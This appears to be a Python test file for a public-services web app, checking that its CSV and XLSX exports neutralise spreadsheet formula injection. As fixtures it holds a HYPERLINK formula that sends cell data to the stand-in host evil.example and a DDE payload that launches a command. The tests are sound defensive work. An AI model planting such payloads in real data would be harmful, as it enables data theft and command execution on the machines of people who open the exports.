"""Every CSV and XLSX export neutralises text a spreadsheet would run as a formula (issue 9, item 8)."""

import csv
import io

from openpyxl import load_workbook

from modules.babhar.models import Pregnancy
from suite.extensions import db
from suite.identity.models import Citizen, Staff
from suite.security.exports import safe_cell
from tests.helpers import citizen_client, lorong_fields, set_ticket, staff_client, submit, ticket_code_from
from tests.modules.babhar.test_care_http import register

FORMULA = '=HYPERLINK("http://evil.example/?"&C2,"Lihat")'
NEUTRALISED = "'" + FORMULA


def test_the_one_rule_prefixes_every_formula_start_and_leaves_numbers_alone():
    for dangerous in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\n@x", "\uff1d1"):
        assert safe_cell(dangerous) == "'" + dangerous, repr(dangerous)
    for harmless in ("Warga Uji", "2026-01-31", "", "a=b", "'=already"):
        assert safe_cell(harmless) == harmless
    assert safe_cell(-5) == -5 and safe_cell(-2.5) == -2.5 and safe_cell(None) is None


def _rename_mother(app, pregnancy_id: int, name: str) -> None:
    with app.app_context():
        citizen_id = db.session.get(Pregnancy, pregnancy_id).citizen_id
        db.session.get(Citizen, citizen_id).full_name = name
        db.session.commit()


def test_a_formula_name_is_inert_in_the_cohort_csv_and_xlsx(app):
    _, _, pregnancy_id = register(app)
    _rename_mother(app, pregnancy_id, FORMULA)
    midwife = staff_client(app, "pkm-tlanakan")

    response = midwife.get("/layanan/babhar/petugas/kohort.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[1][1] == NEUTRALISED
    for row in rows:
        for value in row:
            assert not value.lstrip().startswith(("=", "+", "@", "\t", "\r")), value

    response = midwife.get("/layanan/babhar/petugas/kohort.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    cell = book.active["B2"]
    assert cell.value == NEUTRALISED and cell.data_type == "s"
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_a_formula_officer_name_is_inert_in_the_scorecard_csv(app, runner):
    reporter = citizen_client(app)
    code = ticket_code_from(submit(reporter, "lorong", lorong_fields()))
    officer = staff_client(app, "pupr")
    with app.app_context():
        db.session.get(Staff, officer.staff_id).full_name = "@SUM(1+1)*cmd|' /C calc'!A0"
        db.session.commit()
    set_ticket(app, code, assignee_id=officer.staff_id)
    assert runner.invoke(args=["stats-refresh"]).exit_code == 0  # scorecards read the summary (issue 13)
    supervisor = staff_client(app, "pupr", "supervisor")
    response = supervisor.get("/petugas/kinerja.csv")
    assert response.status_code == 200
    names = [row["name"] for row in csv.DictReader(io.StringIO(response.get_data(as_text=True)))]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


def test_a_formula_road_name_is_inert_in_the_budget_report_csv_and_xlsx(app, runner):
    reporter = citizen_client(app)
    code = ticket_code_from(submit(reporter, "lorong", lorong_fields(road_name=FORMULA)))
    assert runner.invoke(args=["stats-refresh", "--full"]).exit_code == 0
    supervisor = staff_client(app, "pupr", "supervisor")
    response = supervisor.get("/petugas/laporan-anggaran.csv?tabel=rusak-berat")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert [code, NEUTRALISED] == [rows[1][0], rows[1][5]]
    book = load_workbook(io.BytesIO(supervisor.get("/petugas/laporan-anggaran.xlsx").data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == NEUTRALISED and cell.data_type == "s" for cell in cells)
    assert not any(cell.data_type == "f" for cell in cells)


def test_every_export_route_is_covered_here(app):
    """A new CSV/XLSX route must join the tests above (and use suite.security.exports)."""
    exports = sorted(rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith((".csv", ".xlsx", ".<fmt>")))
    # The queue, statistics and command-centre CSVs: tests/test_staff_statistics.py, tests/test_command_centre.py
    assert exports == [
        "/layanan/babhar/petugas/kohort.<fmt>",
        "/petugas/antrean.csv",
        "/petugas/kinerja.csv",
        "/petugas/laporan-anggaran.csv",  # issue 12, item 9
        "/petugas/laporan-anggaran.xlsx",
        "/petugas/pusat-kendali.csv",
        "/petugas/statistik.csv",
        "/statistik/<table>.csv",  # tests/test_public_dashboard.py: test_csv_cells_cannot_become_formulas
    ], exports
